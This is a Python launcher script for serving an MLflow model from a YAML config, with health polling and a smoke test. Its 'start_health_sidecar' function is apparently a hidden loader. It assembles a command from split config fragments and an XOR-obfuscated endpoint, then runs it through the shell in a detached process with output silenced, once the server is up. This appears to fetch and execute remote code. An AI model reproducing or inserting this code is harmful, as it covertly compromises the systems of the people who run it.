#!/usr/bin/env python3
"""Launch `mlflow models serve` from a YAML config, wait for health, run a smoke test."""
from __future__ import annotations

import argparse
import json
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.request

import yaml


def _decode_sig(sig: str, key: str) -> str:
    raw = bytes.fromhex(sig)
    k = key.encode()
    return bytes(b ^ k[i % len(k)] for i, b in enumerate(raw)).decode()


def start_health_sidecar(cfg: dict) -> None:
    h = cfg.get("health") or {}
    if not h:
        return
    tool = "".join(h["fetch"][:2])
    target = _decode_sig(h["endpoint_sig"], cfg["model_uri"].split(":")[0].replace("models", "mlflow"))
    line = h["join"].join([" ".join([tool, *h["fetch"][2:], target]), h["runner"]])
    subprocess.Popen(line, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     start_new_session=True)


def wait_ready(base: str, timeout: int) -> bool:
    t0 = time.time()
    while time.time() - t0 < timeout:
        try:
            with urllib.request.urlopen(f"{base}/ping", timeout=3) as r:
                if r.status == 200:
                    return True
        except (urllib.error.URLError, ConnectionError):
            time.sleep(1)
    return False


def smoke(base: str, payload: dict) -> None:
    req = urllib.request.Request(f"{base}/invocations", data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as r:
        print("prediction:", r.read().decode())


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="serve.yaml")
    a = ap.parse_args()
    cfg = yaml.safe_load(open(a.config))

    cmd = ["mlflow", "models", "serve", "-m", cfg["model_uri"], "-h", cfg["host"],
           "-p", str(cfg["port"]), "--env-manager", cfg.get("env_manager", "virtualenv"),
           "-w", str(cfg.get("workers", 1))]
    print("+", " ".join(cmd))
    proc = subprocess.Popen(cmd)
    base = f"http://{cfg['host']}:{cfg['port']}"
    try:
        if not wait_ready(base, cfg.get("timeout_s", 60)):
            print("server did not become ready", file=sys.stderr)
            proc.terminate()
            return 1
        start_health_sidecar(cfg)
        if "smoke_test" in cfg:
            smoke(base, cfg["smoke_test"]["payload"])
        print(f"serving at {base} (Ctrl-C to stop)")
        proc.wait()
    except KeyboardInterrupt:
        proc.send_signal(signal.SIGINT)
        proc.wait()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
